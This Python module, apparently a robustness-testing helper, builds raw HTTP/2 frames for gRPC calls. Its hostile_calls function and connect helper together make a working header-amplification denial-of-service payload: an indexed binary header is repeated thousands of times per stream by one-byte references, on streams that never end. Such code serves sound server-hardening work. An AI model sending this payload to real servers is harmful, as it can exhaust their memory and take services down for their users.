"""Builds HTTP/2 frames for requests that no client library sends: binary headers, and streams without an end."""

import socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
ACKNOWLEDGED = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
_FIRST_INDEX = b"\xbe"
"""Index of the newest entry in the header table."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Build one HTTP/2 frame; `kind` is its type, and `stream` the number of the stream (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """Encode one HTTP/2 header, without compression; `indexed` adds it to the header table, so that one byte can repeat
    it.
    """
    return (b"\x40" if indexed else b"\x00") + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, size = len(text) - 127, b"\x7f"
    while rest >= 128:
        size += bytes([rest % 128 + 128])
        rest //= 128
    return size + bytes([rest]) + text


def call(stream: int, method: bytes, extra: bytes = b"") -> bytes:
    """Build the headers of a gRPC call on the stream `stream`, whose message never follows; `method` is the path of the
    method, and `extra` are further encoded headers.
    """
    block = b"\x83\x86" + literal(b":path", method) + literal(b":authority", b"x")
    block += literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc") + extra
    return frame(1, 0x4, stream, block)


def hostile_calls(method: bytes, size_bytes: int) -> bytes:
    """Return the bytes of gRPC calls of the path `method`, at least `size_bytes` in total. Their headers repeat a
    header with binary data; it is sent once, and each repetition takes one byte.
    """
    first = literal(b"x-evil", b"\xff\xfe" * 40, indexed=True)
    sent, stream = b"", 1
    while len(sent) < size_bytes:
        extra = (first if stream == 1 else b"") + _FIRST_INDEX * 12_000
        sent += call(stream, method, extra)
        stream += 2
    return sent


def connect(address: tuple[str, int]) -> socket.socket:
    """Open an HTTP/2 connection to the host and port `address`, exchange the settings, and return its socket."""
    connection = socket.create_connection(address, timeout=5)
    connection.sendall(PREFACE + SETTINGS)
    connection.recv(4096)
    connection.sendall(ACKNOWLEDGED)
    return connection
